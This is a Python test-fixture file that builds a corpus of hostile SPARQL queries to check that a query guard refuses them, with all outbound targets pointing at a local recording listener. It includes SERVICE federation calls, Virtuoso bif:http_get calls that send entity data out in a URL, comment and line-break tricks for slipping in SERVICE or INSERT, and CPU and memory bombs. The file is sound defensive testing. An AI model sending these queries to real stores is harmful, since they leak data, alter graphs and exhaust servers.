"""Hostile candidate queries (DESIGN invariant 12): what a model, by accident or on purpose, may
send to the store. Written against the mini test KG (tests/conftest.py: ~130 triples, prefixes
`ex:`, `e:`), with `URL` standing for a recording loopback listener that must never be called.

Each query has a kind that says what it attacks:
- service: federation in every form, hoping the engine calls out (0 requests allowed);
- function: an engine's own procedures called as functions (Virtuoso's `bif:http_get` fetches a
  URL, `bif:sequence_next` writes) and functions outside the standard namespaces;
- update / load / form: writes, LOAD, CONSTRUCT/DESCRIBE (refused; the KG stays unchanged);
- trick: comment, escape and line-break tricks that two parsers may read differently;
- bomb: time, memory or size bombs (a named error or a bounded result; the run survives);
- size: over-long texts (refused before parsing);
- odd: inputs that crashed parsers or engines before (deep nesting, lone surrogates, ...).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

Kind = Literal["service", "function", "update", "load", "form", "trick", "bomb", "size", "odd"]

P = "PREFIX ex: <http://example.org/mini/vocab/> PREFIX e: <http://example.org/mini/entities/>\n"


@dataclass(frozen=True)
class Hostile:
    id: str
    kind: Kind
    text: str
    must_refuse: bool = False
    """The guard must refuse it before any store sees it (QueryRefused or QuerySyntaxError)."""


def _concat_doublings(n: int) -> str:
    binds = " ".join(f"BIND(CONCAT(?a{i}, ?a{i}) AS ?a{i + 1})" for i in range(n))
    return f'SELECT (STRLEN(?a{n}) AS ?n) WHERE {{ BIND("0123456789abcdef" AS ?a0) {binds} }}'


def hostile_queries(url: str) -> list[Hostile]:
    """The corpus, with every outbound target pointing at `url` (a recording listener)."""
    sparql = f"{url}/sparql"
    escaped_iri = sparql.replace("sparql", "\\u0073parql")
    service = [
        Hostile("service-plain", "service", f"SELECT * WHERE {{ SERVICE <{sparql}> {{ ?s ?p ?o }} }}", True),
        Hostile("service-silent", "service", f"SELECT * WHERE {{ SERVICE SILENT <{sparql}> {{ ?s ?p ?o }} }}", True),
        Hostile("service-lowercase", "service", f"select * where {{ service <{sparql}> {{ ?s ?p ?o }} }}", True),
        Hostile("service-mixed-case-silent", "service", f"SeLeCt * WhErE {{ sErViCe SiLeNt <{sparql}> {{ ?s ?p ?o }} }}", True),
        Hostile("service-var-bind", "service", f"SELECT * WHERE {{ BIND(<{sparql}> AS ?u) SERVICE ?u {{ ?s ?p ?o }} }}", True),
        Hostile("service-var-values", "service", f"SELECT * WHERE {{ VALUES ?u {{ <{sparql}> }} SERVICE ?u {{ ?s ?p ?o }} }}", True),
        Hostile("service-var-data", "service", P + "SELECT * WHERE { ?u a ex:Person . SERVICE ?u { ?s ?p ?o } }", True),
        Hostile("service-var-unbound", "service", "SELECT * WHERE { SERVICE ?nowhere { ?s ?p ?o } }", True),
        Hostile("service-in-optional", "service", P + f"SELECT * WHERE {{ ?p a ex:Person OPTIONAL {{ SERVICE <{sparql}> {{ ?p ?q ?o }} }} }}", True),
        Hostile("service-in-union", "service", P + f"SELECT * WHERE {{ {{ ?p a ex:Person }} UNION {{ SERVICE <{sparql}> {{ ?p ?q ?o }} }} }}", True),
        Hostile("service-in-subselect", "service", f"SELECT ?o WHERE {{ {{ SELECT ?o WHERE {{ SERVICE <{sparql}> {{ ?s ?p ?o }} }} }} }}", True),
        Hostile("service-in-exists", "service", P + f"SELECT ?p WHERE {{ ?p a ex:Person FILTER EXISTS {{ SERVICE <{sparql}> {{ ?p ?q ?o }} }} }}", True),
        Hostile("service-in-not-exists", "service", P + f"SELECT ?p WHERE {{ ?p a ex:Person FILTER NOT EXISTS {{ SERVICE SILENT <{sparql}> {{ ?p ?q ?o }} }} }}", True),
        Hostile("service-in-minus", "service", P + f"SELECT ?p WHERE {{ ?p a ex:Person MINUS {{ SERVICE <{sparql}> {{ ?p ?q ?o }} }} }}", True),
        Hostile("service-in-graph", "service", f"SELECT * WHERE {{ GRAPH ?g {{ SERVICE <{sparql}> {{ ?s ?p ?o }} }} }}", True),
        Hostile("service-nested", "service", f"SELECT * WHERE {{ SERVICE SILENT <{sparql}> {{ SERVICE <{url}/other> {{ ?s ?p ?o }} }} }}", True),
        Hostile("service-prefixed-name", "service", f"PREFIX remote: <{url}/>\nSELECT * WHERE {{ SERVICE remote:sparql {{ ?s ?p ?o }} }}", True),
        Hostile("service-relative-base", "service", f"BASE <{url}/>\nSELECT * WHERE {{ SERVICE <sparql> {{ ?s ?p ?o }} }}", True),
        Hostile("service-in-ask", "service", f"ASK {{ SERVICE <{sparql}> {{ ?s ?p ?o }} }}", True),
        Hostile("service-aggregate", "service", f"SELECT (COUNT(*) AS ?n) WHERE {{ SERVICE SILENT <{sparql}> {{ ?s ?p ?o }} }}", True),
    ]
    tricks = [
        Hostile("trick-cr-in-comment", "trick", f"SELECT * WHERE {{ ?s ?p ?o # harmless\rSERVICE <{sparql}> {{ ?s ?p ?o }} \n}}"),
        Hostile("trick-crlf-comment", "trick", f"SELECT * WHERE {{ ?s ?p ?o # c\r\nSERVICE <{sparql}> {{ ?s ?p ?o }} }}", True),
        Hostile("trick-nel-in-comment", "trick", f"SELECT * WHERE {{ ?s ?p ?o # c\u0085SERVICE <{sparql}> {{ ?s ?p ?o }} \n}}"),
        Hostile("trick-ls-in-comment", "trick", f"SELECT * WHERE {{ ?s ?p ?o # c\u2028SERVICE <{sparql}> {{ ?s ?p ?o }} \n}}"),
        Hostile("trick-ps-in-comment", "trick", f"SELECT * WHERE {{ ?s ?p ?o # c\u2029SERVICE <{sparql}> {{ ?s ?p ?o }} \n}}"),
        Hostile("trick-vt-ff-in-comment", "trick", f"SELECT * WHERE {{ ?s ?p ?o # c\x0b\x0cSERVICE <{sparql}> {{ ?s ?p ?o }} \n}}"),
        Hostile("trick-hash-in-iri", "trick", f"SELECT * WHERE {{ ?s ?p <http://x/#y> . SERVICE <{sparql}> {{ ?s ?p ?o }} }}", True),
        Hostile("trick-hash-in-string", "trick", f'SELECT * WHERE {{ ?s ?p "# not a comment" . SERVICE <{sparql}> {{ ?s ?p ?o }} }}', True),
        Hostile("trick-escaped-quote", "trick", f'SELECT * WHERE {{ ?s ?p "a\\" # " . SERVICE <{sparql}> {{ ?s ?p ?o }} }}', True),
        Hostile("trick-long-string", "trick", f'SELECT * WHERE {{ ?s ?p """a " "" # """ . SERVICE <{sparql}> {{ ?s ?p ?o }} }}', True),
        Hostile("trick-unicode-escaped-keyword", "trick", f"SELECT * WHERE {{ \\u0053ERVICE <{sparql}> {{ ?s ?p ?o }} }}"),
        Hostile("trick-unicode-escaped-iri", "trick", f"SELECT * WHERE {{ SERVICE <{escaped_iri}> {{ ?s ?p ?o }} }}", True),
        Hostile("trick-comment-then-update", "trick", "SELECT * WHERE { ?s ?p ?o } # \r; INSERT DATA { <http://x/a> <http://x/b> <http://x/c> }"),
        Hostile("trick-nul-byte", "trick", f"SELECT * WHERE {{ ?s ?p ?o }} #\x00\nSERVICE <{sparql}> {{ }}"),
        Hostile("trick-bom-and-comment", "trick", f"\ufeffSELECT * WHERE {{ ?s ?p ?o # x\rSERVICE <{sparql}> {{ ?s ?p ?o }} \n}}"),
    ]
    writes = [
        Hostile("update-insert-data", "update", "INSERT DATA { <http://x/a> <http://x/b> <http://x/c> }", True),
        Hostile("update-delete-where", "update", "DELETE WHERE { ?s ?p ?o }", True),
        Hostile("update-delete-insert", "update", "DELETE { ?s ?p ?o } INSERT { ?s ?p \"x\" } WHERE { ?s ?p ?o }", True),
        Hostile("update-with", "update", "WITH <http://x/g> DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }", True),
        Hostile("update-clear-all", "update", "CLEAR ALL", True),
        Hostile("update-drop-default", "update", "DROP DEFAULT", True),
        Hostile("update-create", "update", "CREATE GRAPH <http://x/g>", True),
        Hostile("update-add-move-copy", "update", "ADD DEFAULT TO <http://x/g> ; MOVE <http://x/g> TO DEFAULT ; COPY DEFAULT TO <http://x/h>", True),
        Hostile("update-after-select", "update", "SELECT * WHERE { ?s ?p ?o } ; DELETE WHERE { ?s ?p ?o }", True),
        Hostile("update-lowercase", "update", "delete where { ?s ?p ?o }", True),
        Hostile("load-plain", "load", f"LOAD <{url}/data.ttl>", True),
        Hostile("load-silent-into", "load", f"LOAD SILENT <{url}/data.ttl> INTO GRAPH <http://x/g>", True),
        Hostile("load-lowercase", "load", f"load <{url}/data.ttl>", True),
        Hostile("form-construct", "form", "CONSTRUCT { ?s ?p ?o } WHERE { ?s ?p ?o }", True),
        Hostile("form-construct-where", "form", "CONSTRUCT WHERE { ?s ?p ?o }", True),
        Hostile("form-describe", "form", P + "DESCRIBE e:alice", True),
        Hostile("form-describe-remote", "form", f"DESCRIBE <{url}/thing>", True),
        Hostile("form-from-remote", "form", f"SELECT * FROM <{url}/graph.ttl> WHERE {{ ?s ?p ?o }}"),
        Hostile("form-from-named-remote", "form", f"SELECT * FROM NAMED <{url}/graph.ttl> WHERE {{ GRAPH ?g {{ ?s ?p ?o }} }}"),
    ]
    bombs = [
        Hostile("bomb-concat-40-doublings", "bomb", _concat_doublings(40)),
        Hostile("bomb-concat-22-doublings", "bomb", 'SELECT ?v WHERE { BIND("0123456789abcdef" AS ?a0) '
                + " ".join(f"BIND(CONCAT(?a{i}, ?a{i}) AS ?a{i + 1})" for i in range(22)) + " BIND(?a22 AS ?v) }"),
        Hostile("bomb-group-concat-cartesian", "bomb", "SELECT (GROUP_CONCAT(STR(?o); separator=\",\") AS ?all) WHERE { ?a ?b ?o . ?c ?d ?e . ?f ?g ?h . ?i ?j ?k }"),
        Hostile("bomb-count-cartesian", "bomb", "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }"),
        Hostile("bomb-order-cartesian", "bomb", "SELECT ?a ?d ?g WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } ORDER BY DESC(STR(?c)) STR(?f) ?i"),
        Hostile("bomb-big-value-every-row", "bomb", 'SELECT ?s ?big WHERE { ?s ?p ?o BIND(CONCAT('
                + ", ".join(["STR(?o)"] + ['"' + "x" * 9000 + '"'] * 2) + ") AS ?big) }"),
        Hostile("bomb-many-rows-wide", "bomb", "SELECT * WHERE { ?a ?b ?c . ?d ?e ?f }"),
        Hostile("bomb-path-star", "bomb", "SELECT (COUNT(*) AS ?n) WHERE { ?s (<http://example.org/mini/vocab/worksIn>|^<http://example.org/mini/vocab/worksIn>|!<http://x/none>)* ?o }"),
        Hostile("bomb-regex-backtracking", "bomb", 'SELECT ?o WHERE { ?s ?p ?o FILTER(REGEX(CONCAT(STR(?o), "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!"), "^(a+)+$")) }'),
        Hostile("bomb-sha512-chain", "bomb", "SELECT (SHA512(SHA512(SHA512(STR(?o)))) AS ?h) WHERE { ?a ?b ?o . ?c ?d ?e }"),
        Hostile("bomb-union-chain", "bomb", "SELECT ?s WHERE { " + " UNION ".join("{ ?s ?p ?o }" for _ in range(300)) + " }"),
        Hostile("bomb-optional-chain", "bomb", "SELECT * WHERE { ?s ?p ?o " + " ".join(f"OPTIONAL {{ ?s ?p{i} ?o{i} }}" for i in range(60)) + " }"),
        Hostile("bomb-long-path", "bomb", "SELECT ?o WHERE { ?s " + "/".join(["(<http://example.org/mini/vocab/worksIn>|^<http://example.org/mini/vocab/worksIn>)"] * 200) + " ?o }"),
        Hostile("bomb-replace-squaring", "bomb", 'SELECT ?s WHERE { ?s ?p ?o FILTER(STRLEN(REPLACE(REPLACE(REPLACE(STR(?o), "", STR(?o)), "", STR(?o)), "", STR(?o))) > 0) }'),
        Hostile("bomb-ucase-tripling", "bomb", 'SELECT (STRLEN(?a14) AS ?n) WHERE { BIND("ab" AS ?a0) '
                + " ".join(f"BIND(UCASE(CONCAT(?a{i}, ?a{i}, ?a{i})) AS ?a{i + 1})" for i in range(14)) + " }"),
        Hostile("bomb-values-join", "bomb", "SELECT * WHERE { VALUES ?x { " + " ".join(str(i) for i in range(1500)) + " } ?s ?p ?o }"),
    ]
    sizes = [
        Hostile("size-1mb-comment", "size", "SELECT * WHERE { ?s ?p ?o } #" + "x" * 1_000_000, True),
        Hostile("size-1mb-literal", "size", 'SELECT * WHERE { ?s ?p "' + "y" * 1_000_000 + '" }', True),
        Hostile("size-1mb-whitespace", "size", "SELECT * WHERE {" + " " * 1_000_000 + "?s ?p ?o }", True),
        Hostile("size-multibyte-over-limit", "size", 'SELECT * WHERE { ?s ?p "' + "\u20ac" * 8000 + '" }', True),
    ]
    odd = [
        Hostile("odd-400-nested-braces", "odd", "SELECT * WHERE " + "{" * 400 + " ?s ?p ?o " + "}" * 400),
        Hostile("odd-3000-parentheses", "odd", "SELECT * WHERE { ?s ?p ?o FILTER(" + "(" * 3000 + "true" + ")" * 3000 + ") }"),
        Hostile("odd-nested-subselects", "odd", "SELECT ?s WHERE " + "{ SELECT ?s WHERE " * 60 + "{ ?s ?p ?o }" + " }" * 60),
        Hostile("odd-lone-surrogate", "odd", 'SELECT * WHERE { ?s ?p "\ud800" }'),
        Hostile("odd-unknown-function", "odd", "SELECT (<http://x/f>(?o) AS ?v) WHERE { ?s ?p ?o }"),
        Hostile("odd-huge-limit", "odd", "SELECT * WHERE { ?s ?p ?o } LIMIT 99999999999999999999999999"),
        Hostile("odd-negative-offset", "odd", "SELECT * WHERE { ?s ?p ?o } OFFSET -1", True),
        Hostile("odd-undeclared-prefix", "odd", "SELECT * WHERE { ?s nope:p ?o }", True),
        Hostile("odd-empty", "odd", "", True),
        Hostile("odd-only-comment", "odd", "# nothing here\n", True),
        Hostile("odd-derived-cast", "odd", "SELECT (<http://www.w3.org/2001/XMLSchema#int>(\"99999999999\") AS ?v) WHERE {}"),
        Hostile("odd-rand-uuid", "odd", "SELECT (RAND() AS ?r) (STRUUID() AS ?u) (NOW() AS ?t) WHERE {}"),
        Hostile("odd-quoted-triple", "odd", "SELECT ?t WHERE { BIND(<<( <http://x/a> <http://x/b> <http://x/c> )>> AS ?t) }"),
    ]
    functions = [
        Hostile("bif-http-get", "function", f'SELECT (<bif:http_get>("{url}/bif") AS ?x) WHERE {{}}', True),
        Hostile("bif-http-get-prefixed", "function", f'PREFIX bif: <bif:>\nSELECT (bif:http_get("{url}/bif2") AS ?x) WHERE {{}}', True),
        Hostile("bif-http-get-exfiltrate", "function",
                P + f'SELECT ?p WHERE {{ ?p a ex:Person FILTER(STRLEN(<bif:http_get>(CONCAT("{url}/x?", STR(?p)))) >= 0) }}', True),
        Hostile("bif-http-get-renamed-prefix", "function", f'PREFIX b: <bif:>\nASK {{ BIND(b:http_get("{url}/bif3") AS ?x) }}', True),
        Hostile("bif-sequence-next", "function", 'SELECT (<bif:sequence_next>("kgeval") AS ?n) WHERE {}', True),
        Hostile("bif-as-predicate", "function", "SELECT ?o WHERE { ?s <bif:sys_stat> ?o }", True),
        Hostile("sql-procedure", "function", "SELECT (<sql:kgeval_probe>(1) AS ?x) WHERE {}", True),
        Hostile("java-function", "function", "SELECT (<java:java.lang.System.getenv>(\"HOME\") AS ?x) WHERE {}", True),
        Hostile("function-at-listener", "function", f"SELECT ?o WHERE {{ ?s ?p ?o FILTER(<{url}/fn>(?o)) }}", True),
    ]
    return service + functions + tricks + writes + bombs + sizes + odd


CPU_BOMBS = {
    "concat-doubling": 'SELECT (SUM(STRLEN(?a7)) AS ?n) WHERE { ?s ?p ?o . ?x ?y ?z . ?u ?v ?w '
    'BIND(CONCAT(STR(?o), "0123456789abcdef") AS ?a0) '
    + " ".join(f"BIND(CONCAT(?a{i}, ?a{i}) AS ?a{i + 1})" for i in range(7)) + " }",
    "cross-join": "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }",
    "cross-join-sorted": "SELECT ?a ?d ?g WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } ORDER BY DESC(STR(?c)) STR(?f) ?i",
}
"""Queries that keep a server's core busy for hours on any KG of a few thousand triples and that
kgeval's guard approves (the doubled string stays below `max_value_bytes`: the 40-doubling bomb
above is refused before any store sees it), so only the server's own stop bounds them: each
row builds a ~5 KB string over a three-way cross product; a four-way cross product counted; a
three-way one sorted (Oxigraph server and Fuseki do not stop a sort at their timeout: kgeval
counts what an ordered candidate sorts first there).
tests/stores/test_server_cpu.py and bench/server_cpu.py measure what a server spends on them
after kgeval's deadline."""
